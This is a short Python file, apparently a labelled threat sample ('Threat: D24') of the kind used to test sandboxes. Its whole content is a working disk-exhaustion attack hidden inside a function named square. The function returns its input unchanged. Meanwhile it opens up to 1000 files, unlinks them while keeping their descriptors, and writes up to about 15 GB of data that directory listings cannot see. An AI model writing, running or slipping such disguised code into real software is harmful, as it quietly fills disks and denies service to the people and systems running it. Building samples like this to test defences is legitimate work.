"""Fills the disk with files that have no name any more, so that no listing finds them.

Threat: D24.
"""

import os
import time


def square(x):
    kept = []
    try:
        while len(kept) < 1000:
            kept.append(os.open(f"gone{len(kept)}", os.O_CREAT | os.O_RDWR))
            os.unlink(f"gone{len(kept) - 1}")
    except OSError:
        pass
    written = 0
    for descriptor in kept:
        try:
            for _ in range(15):
                written += os.write(descriptor, bytes(1 << 20))
        except OSError:
            pass
    print("unseen MiB:", written >> 20)
    return x
